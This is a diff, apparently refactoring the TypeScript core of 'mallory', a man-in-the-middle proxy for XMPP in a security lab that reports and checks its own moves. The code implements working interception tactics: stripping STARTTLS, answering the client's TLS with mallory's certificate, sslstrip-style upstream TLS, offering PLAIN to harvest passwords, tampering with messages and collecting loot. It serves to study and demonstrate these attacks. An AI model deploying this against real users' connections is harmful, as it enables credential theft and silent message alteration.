@@ -1,17 +1,17 @@
 import { StringDecoder } from "node:string_decoder";
 import type net from "node:net";
-import tls from "node:tls";
 import type { Element } from "ltx";
 import { Element as El } from "ltx";
-import type { Direction, Emit, LootItem } from "../lab/core/events.js";
+import type { Direction, Edit, Emit, LabEventBody, LootItem, Move, ReadContext } from "../lab/core/events.js";
 import { NS } from "../lab/core/ns.js";
-import { headerXml, labelOf } from "../lab/core/stanzas.js";
+import { headerXml, labelOf, mechanismsOf } from "../lab/core/stanzas.js";
 import { certFacts, type Identity, type KeyLog, tidyOpenSsl } from "../lab/core/tls.js";
 import { XmlStreamParser } from "../lab/core/xml-stream.js";
 import { scanBoundary } from "./boundary.js";
+import { TacticLedger } from "./ledger.js";
 import { LootCollector } from "./loot.js";
 import { sealedRelay } from "./sealed.js";
-import { offerPlain, stripMechanisms, stripStartTls, tamperMessage, type TacticName, type TamperRule } from "./tactics.js";
+import type { TacticDef, TacticName, Where } from "./tactics/index.js";
 import { terminateTls, tlsToServer, upstreamStartTls } from "./tls-moves.js";
 
 export interface InterceptionConfig {
@@ -19,18 +19,15 @@ export interface InterceptionConfig {
   id: string;
   emit: Emit;
   tactics: ReadonlySet<TacticName>;
+  /** The registry, in its order of effect (tactics/registry.ts). */
+  defs: readonly TacticDef[];
   identity?: Identity;
   domain: string;
-  tamper: TamperRule;
-  stripMechanism: (m: string) => boolean;
   timeoutMs: number;
   keylog?: KeyLog;
 }
 
 type Item = { xml: string };
-
-const HUNG_UP = "alice hung up without sending a byte through mallory's TLS: she refused the certificate; nothing was learned";
-
 
 /** One direction of the XML relay: what arrived, not yet forwarded, and whether it changed. */
 interface Pipe {
@@ -50,30 +47,45 @@ interface Pipe {
   suspended: boolean;
 }
 
+/** Tactics that read every element: while one is on, mallory keeps parsing. */
+const READERS: readonly TacticName[] = ["observe", "loot", "tamper"];
+
 /**
- * One victim connection through mallory. Bytes are parsed a chunk at a time and forwarded
- * as they came unless a tactic changed an element in that chunk, in which case the chunk's
+ * One client connection through mallory. Bytes are parsed a chunk at a time and forwarded as
+ * they came unless a tactic changed an element in that chunk, in which case the chunk's
  * elements are re-serialised. A partial element is held until it completes. The special
- * moves (answer STARTTLS, TLS toward the server, going sealed) swap the sockets underneath.
+ * moves (answer TLS, STARTTLS toward the server, going sealed) swap the sockets underneath.
+ *
+ * Everything it reports is what it observed or did: a `move` or `relay` event is a claim the
+ * witness checks (lab/witness/claims.ts).
  */
 export class Interception {
   private c2s!: Pipe;
   private s2c!: Pipe;
   private clientHeader: Record<string, string> = {};
   private strippedStartTls = false;
-  private clientSecure = false;
+  /** mallory went to the server with STARTTLS herself (sslstrip's move): never twice. */
+  private upstreamTls = false;
+  private context: ReadContext = "cleartext";
+  private stage: "pre-auth" | "post-auth" = "pre-auth";
   private readonly loot: LootCollector;
+  private readonly ledger: TacticLedger;
+  private readonly editors: TacticDef[];
   private closed = false;
   /** Async moves in flight (TLS interception, the sslstrip move): stop() waits for them. */
   private readonly moves: Promise<unknown>[] = [];
   /**
-   * Handshake done, nothing from alice yet. A pinning client finishes the TLS handshake and
-   * only then checks the key, so "alice accepted the certificate" is claimed only once alice
-   * sends data through it.
+   * Handshake done, nothing from the client yet. A pinning client finishes the TLS handshake
+   * and only then checks the key, so "the client sends through mallory's TLS" is claimed only
+   * once it does.
    */
-  private awaitingAlice = false;
-  /** Set at SASL success when no tactic reads or changes anything after it. */
+  private awaitingClient = false;
+  /** Set once nothing is left that needs parsing. */
   private goRaw = false;
+  /** Both TLS handshakes of intercept-tls are under way: interceptTls reports how they ended. */
+  private handshaking = false;
+  /** Which side's socket closed first. */
+  private closedBy: "client" | "server" | null = null;
 
   constructor(
     private client: net.Socket,
@@ -81,22 +93,34 @@ export class Interception {
     private readonly cfg: InterceptionConfig,
   ) {
     this.loot = new LootCollector((item) => this.found(item));
-    for (const s of [client, server]) {
-      s.on("error", () => {});
-      s.on("close", () => this.close());
-    }
+    this.ledger = new TacticLedger(cfg.defs, cfg.tactics, (tactic, status, context, why) =>
+      this.cfg.emit(this.cfg.name, { kind: "tactic", tactic, status, context, why }, this.cfg.id),
+    );
+    this.editors = cfg.defs.filter((d) => d.edit && cfg.tactics.has(d.name));
+    client.on("close", () => this.close("client"));
+    server.on("close", () => this.close("server"));
+    for (const s of [client, server]) s.on("error", () => {});
   }
 
   private has(t: TacticName): boolean {
     return this.cfg.tactics.has(t);
   }
 
-  private emit(body: Parameters<Emit>[1]): void {
+  /** Every event goes out here, so the ledger sees each tactic that acted. */
+  private emit(body: LabEventBody): void {
+    if (body.kind === "move") this.ledger.act(body.tactic);
+    else if (body.kind === "relay") for (const e of body.edits) this.ledger.act(e.tactic);
+    else if (body.kind === "loot") this.ledger.act("loot");
     this.cfg.emit(this.cfg.name, body, this.cfg.id);
   }
 
-  private action(tactic: string, text: string): void {
-    this.emit({ kind: "action", tactic, text });
+  private move(tactic: TacticName | null, move: Move): void {
+    this.emit({ kind: "move", tactic, move });
+  }
+
+  private enter(context: ReadContext): void {
+    this.context = context;
+    this.ledger.enter(context);
   }
 
   private found(item: LootItem): void {
@@ -114,15 +138,25 @@ export class Interception {
     });
   }
 
-  close(): void {
+  /** `by`: whose socket closed; none when mallory herself ends the connection. */
+  close(by?: "client" | "server"): void {
     if (this.closed) return;
     this.closed = true;
-    if (this.awaitingAlice) {
-      this.awaitingAlice = false;
-      this.action("intercept-tls", HUNG_UP);
-    }
+    this.closedBy = by ?? null;
     this.client.destroy();
     this.server.destroy();
+    // A close in the middle of intercept-tls's handshakes is told by interceptTls once both
+    // have settled: only then is it known which side ended it.
+    if (!this.handshaking) this.finish();
+  }
+
+  /** The connection is over: report what is still open, then every tactic that never acted. */
+  private finish(): void {
+    if (this.awaitingClient) {
+      this.awaitingClient = false;
+      if (this.closedBy === "client") this.move("intercept-tls", { type: "client-hung-up" });
+    }
+    this.ledger.close(this.context);
   }
 
   /** Resolves once every async move has finished, so no event arrives after a run ends. */
@@ -130,44 +164,57 @@ export class Interception {
     return Promise.allSettled(this.moves).then(() => undefined);
   }
 
-  // ---- TLS from the first byte (XEP-0368) --------------------------------------------------
+  // ---- TLS from the client: direct (XEP-0368) or after STARTTLS ---------------------------
 
   private async directTls(first: Buffer): Promise<void> {
     if (!this.has("intercept-tls") || !this.cfg.identity) return this.sealed(first);
     await this.interceptTls(first, "direct");
   }
 
-  /** intercept-tls: TLS with alice under mallory's identity, TLS with the server as mallory. */
-  private async interceptTls(first: Buffer | null, how: string): Promise<void> {
+  /** intercept-tls: TLS with the client under mallory's identity, TLS with the server as mallory. */
+  private async interceptTls(first: Buffer | null, how: "direct" | "starttls"): Promise<void> {
     const id = this.cfg.identity!;
-    const facts = certFacts(id.cert);
-    this.action("intercept-tls", `answers alice's TLS (${how}) with its own certificate: subject ${facts.subject}, issued by ${facts.issuer}`);
-    const clientRaw = this.client;
-    const serverRaw = this.server;
-    try {
-      const [toClient, toServer] = await Promise.all([terminateTls(clientRaw, first, id, this.cfg.keylog), tlsToServer(serverRaw, this.cfg.domain, this.cfg.keylog)]);
-      this.client = toClient;
-      this.server = toServer;
-      for (const s of [toClient, toServer]) {
-        s.on("error", () => {});
-        s.on("close", () => this.close());
-      }
-      this.clientSecure = true;
-      this.awaitingAlice = true;
-      this.xmlMode(toClient, toServer);
-    } catch (err) {
+    this.move("intercept-tls", { type: "tls-answered", how, cert: certFacts(id.cert) });
+    this.handshaking = true;
+    const [toClient, toServer] = await Promise.allSettled([
+      terminateTls(this.client, first, id, this.cfg.keylog),
+      tlsToServer(this.server, this.cfg.domain, this.cfg.keylog),
+    ]);
+    this.handshaking = false;
+    const failed = (r: PromiseSettledResult<unknown>) => (r.status === "rejected" ? tidyOpenSsl((r.reason as Error).message) : null);
+    const clientFailed = failed(toClient);
+    const serverFailed = failed(toServer);
+    if (clientFailed !== null || this.closedBy === "client") {
       // Node clients verify after OpenSSL's handshake and then just close: no alert reaches
       // mallory, only the hang-up. A real alert, when there is one, is quoted.
-      const msg = (err as Error).message;
-      this.action("intercept-tls", /closed during the handshake/.test(msg) ? HUNG_UP : `alice refused mallory's certificate with a TLS alert (${tidyOpenSsl(msg)}); nothing was learned`);
-      this.close();
+      const alert = clientFailed !== null && !/closed during the handshake/.test(clientFailed);
+      this.move("intercept-tls", alert ? { type: "client-tls-alert", alert: clientFailed! } : { type: "client-hung-up" });
+    } else if (serverFailed !== null) {
+      // Her own TLS to the server failed: say so, and blame nobody else.
+      this.move("intercept-tls", { type: "server-tls-failed", error: serverFailed });
     }
+    if (this.closed || clientFailed !== null || serverFailed !== null) {
+      for (const r of [toClient, toServer]) if (r.status === "fulfilled") r.value.destroy();
+      if (!this.closed) this.close();
+      else this.finish();
+      return;
+    }
+    const [tc, ts] = [toClient as PromiseFulfilledResult<net.Socket>, toServer as PromiseFulfilledResult<net.Socket>];
+    this.client = tc.value;
+    this.server = ts.value;
+    this.client.on("close", () => this.close("client"));
+    this.server.on("close", () => this.close("server"));
+    for (const s of [this.client, this.server]) s.on("error", () => {});
+    this.enter("inside-tls");
+    this.awaitingClient = true;
+    this.xmlMode(this.client, this.server);
   }
 
   // ---- sealed: bytes mallory cannot read -----------------------------------------------------
 
   private sealed(firstFromClient: Buffer | null): void {
-    this.action("observe", "the stream is encrypted now: mallory relays bytes it cannot read and sees only record sizes");
+    this.move(null, { type: "sealed" });
+    this.enter("sealed");
     sealedRelay(this.client, this.server, { emit: (body) => this.emit(body), flip: this.has("flip-bytes") }, firstFromClient);
   }
 
@@ -222,76 +269,105 @@ export class Interception {
     if (out && !p.to.destroyed) p.to.write(out);
   }
 
+  private readContext(): "cleartext" | "inside-tls" {
+    return this.context === "inside-tls" ? "inside-tls" : "cleartext";
+  }
+
   private onHeader(p: Pipe, attrs: Record<string, string>, header: Element): void {
     if (p.dir === "c2s") {
       this.clientHeader = { ...attrs };
-      if (this.awaitingAlice) {
-        this.awaitingAlice = false;
-        this.action("intercept-tls", "alice accepted mallory's certificate and sends her stream through it: mallory reads it decrypted and re-encrypts it to the server");
+      if (this.awaitingClient) {
+        this.awaitingClient = false;
+        this.move("intercept-tls", { type: "client-sent-through-tls" });
       }
     }
     const xml = headerXml(header.attrs);
     p.items.push({ xml });
-    this.emit({ kind: "relay", dir: p.dir, label: "stream header", xml, edit: null, original: null });
+    this.emit({ kind: "relay", dir: p.dir, context: this.readContext(), label: "stream header", xml, edits: [], original: null });
   }
 
   private onElement(p: Pipe, el: Element): void {
     const original = el.toString();
-    const notes: string[] = [];
-    let out: Element | null = el;
+    const where: Where = { dir: p.dir, context: this.readContext(), stage: this.stage };
     if (p.dir === "c2s") {
       this.loot.fromClient(el);
+      if (el.name === "message" && el.getChild("body")) this.ledger.messageSeen();
       if (el.name === "starttls" && el.getNS() === NS.tls && this.strippedStartTls) {
-        // alice asks for TLS although we hid it (RFC 7590 §3.1): refuse in the server's name.
-        this.action("strip-starttls", "alice asked for STARTTLS anyway; mallory answers <failure/> in the server's name");
-        out = null;
+        // The client asks for TLS although we hid it (RFC 7590 §3.1): refuse in the server's name.
+        this.move("strip-starttls", { type: "starttls-refused" });
+        p.changed = true;
         this.client.end(new El("failure", { xmlns: NS.tls }).toString() + "</stream:stream>");
-      } else if (el.name === "message" && this.has("tamper")) {
-        const t = tamperMessage(el, this.cfg.tamper);
-        if (t) {
-          out = t.el;
-          notes.push(...t.notes);
-          this.found({ type: "message-tampered", to: (el.attrs.to as string) ?? null, sent: t.sent, delivered: t.delivered });
-        }
+        return;
       }
     } else {
       this.loot.fromServer(el);
-      // RFC 6120 §6.3.2: after SASL success only stanzas follow. With no tactic left to read or
-      // change them, parsing is pure cost: become a byte relay.
-      if (el.name === "success" && el.getNS() === NS.sasl && !["observe", "loot", "tamper"].some((t) => this.has(t as TacticName))) {
-        this.goRaw = true;
-      }
-      if (el.name === "stream:features" && !this.clientSecure) {
-        const r = this.editFeatures(el);
-        out = r.el;
-        notes.push(...r.notes);
-        if (r.upstreamStartTls) {
-          this.emit({ kind: "relay", dir: p.dir, label: labelOf(el), xml: "", edit: `withheld ${labelOf(el)}: alice never sees them`, original });
-          p.changed = true; // the features are withheld: alice gets the post-TLS ones instead
-          p.suspended = true;
-          p.parser.pause();
-          this.moves.push(this.sslstrip(p));
-          return;
-        }
-      } else if (el.name === "proceed" && el.getNS() === NS.tls) {
-        p.parser.pause();
-        p.suspended = true;
-        p.items.push({ xml: original });
-        this.emit({ kind: "relay", dir: p.dir, label: labelOf(el), xml: original, edit: null, original: null });
-        this.flush(p, true);
-        if (this.has("intercept-tls") && this.cfg.identity) this.moves.push(this.interceptTls(null, "after STARTTLS"));
-        else this.sealed(null);
-        return;
-      }
+      if (el.name === "proceed" && el.getNS() === NS.tls) return this.onProceed(p, el, original);
+    }
+    const { out, edits, sslstrip } = this.applyTactics(el, where);
+    for (const e of edits) {
+      if (e.op === "rewrote-body") this.found({ type: "message-tampered", to: (el.attrs.to as string) ?? null, sent: e.before, delivered: e.after });
+    }
+    if (p.dir === "s2c" && el.name === "success" && el.getNS() === NS.sasl) this.stage = "post-auth"; // RFC 6120 §6.3.2
+    if (sslstrip) {
+      this.emit({ kind: "relay", dir: p.dir, context: where.context, label: labelOf(el), xml: "", edits, original });
+      p.changed = true; // the features are withheld: the client gets the post-TLS ones instead
+      p.suspended = true;
+      p.parser.pause();
+      this.moves.push(this.sslstrip(p, sslstrip));
+      return;
+    }
+    // After authentication nothing but stanzas follow (§6.3.2). Once the post-auth features
+    // have passed, with no tactic left to read or change anything, parsing is pure cost.
+    if (p.dir === "s2c" && el.name === "stream:features" && this.stage === "post-auth" && !READERS.some((t) => this.has(t))) {
+      this.goRaw = true;
     }
     if (out === null) {
       p.changed = true;
+      this.emit({ kind: "relay", dir: p.dir, context: where.context, label: labelOf(el), xml: "", edits, original });
       return;
     }
     const xml = out === el ? original : out.toString();
     if (out !== el) p.changed = true;
     p.items.push({ xml });
-    this.emit({ kind: "relay", dir: p.dir, label: labelOf(out), xml, edit: notes.length ? notes.join("; ") : null, original: out === el ? null : original });
+    this.emit({ kind: "relay", dir: p.dir, context: where.context, label: labelOf(out), xml, edits, original: out === el ? null : original });
+  }
+
+  /**
+   * The configured element tactics, in the registry's order, on one element. A tactic that
+   * cannot act in this context was already reported (TacticLedger.enter) and is skipped.
+   */
+  private applyTactics(el: Element, where: Where): { out: Element | null; edits: Edit[]; sslstrip: "server-requires-tls" | "no-mechanisms-before-tls" | null } {
+    let out: Element | null = el;
+    const edits: Edit[] = [];
+    for (const d of this.editors) {
+      if (!out || !d.contexts.includes(where.context)) continue;
+      const r = d.edit!(out, where);
+      if (!r) continue;
+      out = r.el;
+      edits.push(...r.edits);
+      const strip = r.edits.find((e) => e.op === "removed-starttls");
+      if (!strip || strip.op !== "removed-starttls") continue;
+      this.strippedStartTls = true;
+      // A server that requires TLS offers nothing else before it (RFC 6120 §5.3.1, §6.3.4): go
+      // get it - before authentication only (a server may re-offer optional STARTTLS after
+      // login, as Prosody does), and not with offer-plain, the cruder move that harvests the
+      // password and lets the login fail.
+      const because = strip.required ? "server-requires-tls" : !mechanismsOf(el).length && !el.getChild("bind", NS.bind) ? "no-mechanisms-before-tls" : null;
+      if (because && where.stage === "pre-auth" && !this.upstreamTls && !this.has("offer-plain")) {
+        return { out: null, edits: [...edits, { tactic: "strip-starttls", op: "withheld" }], sslstrip: because };
+      }
+    }
+    return { out, edits, sslstrip: null };
+  }
+
+  private onProceed(p: Pipe, el: Element, original: string): void {
+    p.parser.pause();
+    p.suspended = true;
+    p.items.push({ xml: original });
+    this.emit({ kind: "relay", dir: p.dir, context: this.readContext(), label: labelOf(el), xml: original, edits: [], original: null });
+    this.flush(p, true);
+    if (this.has("intercept-tls") && this.cfg.identity) this.moves.push(this.interceptTls(null, "starttls"));
+    else this.sealed(null);
   }
 
   /** Nothing left to parse: forward what is held, then pipe bytes both ways untouched. */
@@ -303,57 +379,30 @@ export class Interception {
       p.from.removeAllListeners("data");
       p.from.pipe(p.to);
     }
-    this.action("observe", "nothing left to change or read: mallory is now a plain byte relay");
+    this.move(null, { type: "byte-relay" });
+    this.context = "byte-relay";
   }
 
-  /** The features alice will see: the tactics in their order - strip TLS, then mechanisms, then offer PLAIN. */
-  private editFeatures(features: Element): { el: Element; notes: string[]; upstreamStartTls: boolean } {
-    let el = features;
-    const notes: string[] = [];
-    let upstreamStartTls = false;
-    if (this.has("strip-starttls")) {
-      const r = stripStartTls(el);
-      if (r.removed) {
-        this.strippedStartTls = true;
-        el = r.el;
-        notes.push(...r.notes);
-        // A server that requires TLS offers nothing else before it (RFC 6120 §5.3.1): go get it -
-        // unless offer-plain is chosen, the cruder move: harvest the password, let the login fail.
-        upstreamStartTls = (r.required || !el.getChild("mechanisms", NS.sasl)) && !this.has("offer-plain");
-      }
-    }
-    if (this.has("strip-mechanisms")) {
-      const r = stripMechanisms(el, this.cfg.stripMechanism);
-      el = r.el;
-      notes.push(...r.notes);
-    }
-    if (this.has("offer-plain") && !upstreamStartTls) {
-      const r = offerPlain(el);
-      el = r.el;
-      notes.push(...r.notes);
-    }
-    return { el, notes, upstreamStartTls };
-  }
-
-  /** The server requires TLS: do STARTTLS with it, then show alice its post-TLS features in clear. */
-  private async sslstrip(p: Pipe): Promise<void> {
+  /** sslstrip's move: STARTTLS with the server, then show the client its post-TLS features in clear. */
+  private async sslstrip(p: Pipe, because: "server-requires-tls" | "no-mechanisms-before-tls"): Promise<void> {
     this.flush(p, false);
-    this.action("strip-starttls", "the server requires TLS, so mallory does STARTTLS with it herself and keeps alice in cleartext");
+    this.upstreamTls = true;
+    this.move("strip-starttls", { type: "upstream-starttls", because });
     try {
       const { socket, features } = await upstreamStartTls(this.server, this.clientHeader, this.cfg.domain, this.cfg.timeoutMs, this.cfg.keylog);
       this.server = socket;
       socket.on("error", () => {});
-      socket.on("close", () => this.close());
+      socket.on("close", () => this.close("server"));
       this.c2s.to = socket;
       this.s2c = this.pipe("s2c", socket, this.client);
-      this.action("strip-starttls", "TLS is up toward the server; its SASL features now go to alice as if they were the first ones");
+      this.move("strip-starttls", { type: "upstream-starttls-done" });
       this.s2c.parser.assumeOpen({ from: this.cfg.domain, xmlns: NS.client, "xmlns:stream": NS.stream });
       this.s2c.depth = 1;
       this.onElement(this.s2c, features);
       this.s2c.changed = true; // the features are forwarded from items: nothing raw is pending
       this.flush(this.s2c, false);
     } catch (err) {
-      this.action("strip-starttls", `STARTTLS toward the server failed: ${(err as Error).message}`);
+      this.move("strip-starttls", { type: "upstream-starttls-failed", error: tidyOpenSsl((err as Error).message) });
       this.close();
     }
   }
